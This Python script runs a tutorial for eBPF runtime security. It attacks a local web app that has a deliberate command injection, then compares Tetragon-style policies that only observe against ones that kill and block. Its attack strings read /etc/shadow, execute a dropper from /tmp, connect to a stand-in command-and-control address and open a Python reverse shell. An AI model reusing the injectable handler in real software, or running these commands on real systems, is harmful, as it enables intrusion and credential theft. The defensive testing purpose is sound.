#!/usr/bin/env python3
"""The Tetragon tutorial, on tracepoints: a small web app (nginx in front of a Python app with a command
injection) is attacked, first observed by `bpfscope secure` (events with lineage and container), then
enforced (the policy switched to kill and block), and the two phases compared.

    sudo .venv/bin/python experiments/tetragon-tutorial/run.py [--out DIR] [--keep]

Everything runs on this machine: nginx and the app listen on 127.0.0.1, the "command and control" server
on 127.66.6.6 (loopback), the reverse-shell listener on 127.0.0.1:4444. The report (report.json, and the
events of each phase as Tetragon's JSON lines and as compact lines) goes to --out.
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import urllib.request
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))
from scenario import Watcher  # noqa: E402

C2_ADDRESS = "127.66.6.6"
REVERSE_SHELL_PORT = 4444

APP = r'''
"""The web app: /run?cmd=... runs a command (the injection every attack goes through)."""
import http.server, subprocess, sys, urllib.parse

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        query = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        out = b""
        if "cmd" in query:
            done = subprocess.run(query["cmd"][0], shell=True, capture_output=True, timeout=20)
            out = done.stdout + done.stderr + f"\nexit {done.returncode}\n".encode()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out or b"hello\n")

    def log_message(self, *args):
        pass

http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
'''

NGINX_CONF = """
daemon off;
master_process on;
worker_processes 1;
pid {dir}/nginx.pid;
error_log {dir}/error.log;
events {{ worker_connections 64; }}
http {{
    access_log off;
    client_body_temp_path {dir}/body;
    proxy_temp_path {dir}/proxy;
    fastcgi_temp_path {dir}/fastcgi;
    uwsgi_temp_path {dir}/uwsgi;
    scgi_temp_path {dir}/scgi;
    server {{
        listen 127.0.0.1:{port};
        location / {{ proxy_pass http://127.0.0.1:{app_port}; proxy_read_timeout 30s; }}
    }}
}}
"""

# The app's own policy: what it must never do. Observed first (Post), then enforced.
WEBAPP_POLICY = """\
apiVersion: cilium.io/v1alpha1
kind: TracingPolicy
metadata:
  name: webapp
spec:
  tracepoints:
  - subsystem: sched
    event: sched_process_exec
    message: "A program started from a temporary directory"
    selectors:
    - matchBinaries:
      - operator: Prefix
        values: [/tmp/, /dev/shm/, /var/tmp/]
      matchActions:
      - action: {exec_action}
  - subsystem: syscalls
    event: sys_enter_connect
    message: "Connection to the command-and-control network"
    args:
    - name: uservaddr
      type: sockaddr
    selectors:
    - matchArgs:
      - name: uservaddr
        operator: DAddr
        values: [127.66.0.0/16]
      matchActions:
      - action: {connect_action}
    - matchArgs:
      - name: uservaddr
        operator: DPort
        values: [{reverse_port}]
      matchPIDs:
      - operator: In
        followForks: true
        values: [{app_pid}]
      matchActions:
      - action: {reverse_action}
"""

PYTHON = sys.executable
ATTACKS = {
    "read-shadow": "cat /etc/shadow",
    "dropper": "cp /usr/bin/id /tmp/.x-update && /tmp/.x-update",
    "exfiltration": (
        f"{PYTHON} -c \"import socket; socket.create_connection(('{C2_ADDRESS}', 8443), 3).send(b'x')\""
    ),
    "reverse-shell": (
        f'{PYTHON} -c "import os,socket; '
        f"s=socket.create_connection(('127.0.0.1', {REVERSE_SHELL_PORT}), 3); "
        "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-c', 'id'])\""
    ),
}


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def listener(host: str, port: int) -> tuple[socket.socket, list[str]]:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((host, port))
    server.listen(8)
    accepted: list[str] = []

    def accept() -> None:
        while True:
            try:
                peer, address = server.accept()
            except OSError:
                return
            accepted.append(f"{address[0]}:{address[1]}")
            peer.close()

    threading.Thread(target=accept, daemon=True).start()
    return server, accepted


def attack(port: int, command: str) -> str:
    url = f"http://127.0.0.1:{port}/run?cmd={urllib.parse.quote(command)}"
    try:
        with urllib.request.urlopen(url, timeout=30) as response:
            return response.read().decode(errors="replace")
    except OSError as exc:
        return f"request failed: {exc}"


def phase(name: str, policy: Path, port: int, out: Path) -> dict[str, Any]:
    """One run of the attacks under bpfscope secure with the default policy and the app's."""
    c2, c2_seen = listener(C2_ADDRESS, 8443)
    shell, shell_seen = listener("127.0.0.1", REVERSE_SHELL_PORT)
    responses = {}
    with Watcher("secure", "--policy", str(policy), attached="Tracing") as watcher:
        for attack_name, command in ATTACKS.items():
            responses[attack_name] = attack(port, command).strip().splitlines()[-1:]
        time.sleep(0.5)
        records = watcher.stop()
    for server in (c2, shell):
        # Wakes the thread blocked in accept(), which holds the port until then.
        server.shutdown(socket.SHUT_RDWR)
        server.close()
    # The app's events only (the machine's other processes are in the stream too).
    own = [r for r in records if (kind := r["record"].removeprefix("secure.")) in r and app_lineage(r[kind])]
    (out / f"{name}.jsonl").write_text("".join(json.dumps(r) + "\n" for r in own))
    hits = [r["process_tracepoint"] for r in records if r["record"] == "secure.process_tracepoint"]
    return {
        "responses": responses,
        "c2_connections": len(c2_seen),
        "reverse_shell_connections": len(shell_seen),
        "hits": [
            {
                "policy": h["policy_name"],
                "event": h["event"],
                "action": h["action"].removeprefix("KPROBE_ACTION_").lower(),
                "binary": h["process"]["binary"],
                "lineage": [
                    h["process"]["binary"],
                    h.get("parent", {}).get("binary"),
                    *[a["binary"] for a in h.get("ancestors", [])][:3],
                ],
            }
            for h in hits
            if app_lineage(h)
        ],
    }


def app_lineage(event: dict[str, Any]) -> bool:
    """An event of the attacks: the web app is the process or among its ancestors."""
    chain = [event["process"], event.get("parent") or {}, *event.get("ancestors", [])]
    return any("bpfscope-tutorial-app" in (p.get("arguments") or "") for p in chain)


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--out", type=Path, default=HERE / "report")
    args = parser.parse_args()
    if os.geteuid() != 0:
        sys.exit("run as root: bpfscope loads BPF programs")
    args.out.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="bpfscope-tutorial-") as tmp:
        workdir = Path(tmp)
        app_port, port = free_port(), free_port()
        app_file = workdir / "app.py"
        app_file.write_text(APP)
        app = subprocess.Popen([sys.executable, str(app_file), str(app_port), "bpfscope-tutorial-app"])
        (workdir / "nginx.conf").write_text(NGINX_CONF.format(dir=workdir, port=port, app_port=app_port))
        nginx = subprocess.Popen(["/usr/sbin/nginx", "-c", str(workdir / "nginx.conf"), "-p", str(workdir)])
        try:
            for _ in range(100):
                if attack(port, "true").endswith("exit 0"):
                    break
                time.sleep(0.1)
            report: dict[str, Any] = {"app_pid": app.pid, "nginx_pid": nginx.pid, "attacks": ATTACKS}
            for name, actions in (
                ("observe", {"exec_action": "Post", "connect_action": "Post", "reverse_action": "Post"}),
                (
                    "enforce",
                    {"exec_action": "Sigkill", "connect_action": "Block", "reverse_action": "Sigkill"},
                ),
            ):
                policy = workdir / f"{name}.yaml"
                policy.write_text(
                    WEBAPP_POLICY.format(app_pid=app.pid, reverse_port=REVERSE_SHELL_PORT, **actions)
                )
                report[name] = phase(name, policy, port, args.out)
                Path("/tmp/.x-update").unlink(missing_ok=True)
        finally:
            nginx.terminate()
            app.terminate()
            nginx.wait(timeout=10)
            app.wait(timeout=10)
    (args.out / "report.json").write_text(json.dumps(report, indent=2) + "\n")
    for name in ("observe", "enforce"):
        result = report[name]
        c2, shells = result["c2_connections"], result["reverse_shell_connections"]
        print(f"== {name}: C2 connections {c2}, reverse shells {shells}")
        for attack_name, response in result["responses"].items():
            print(f"   {attack_name:<14} app answered: {' '.join(response)}")
        for hit in result["hits"]:
            lineage = " <- ".join(filter(None, hit["lineage"]))
            print(f"   {hit['action']:<8} {hit['policy']:<18} {hit['event']:<20} {lineage}")


if __name__ == "__main__":
    main()
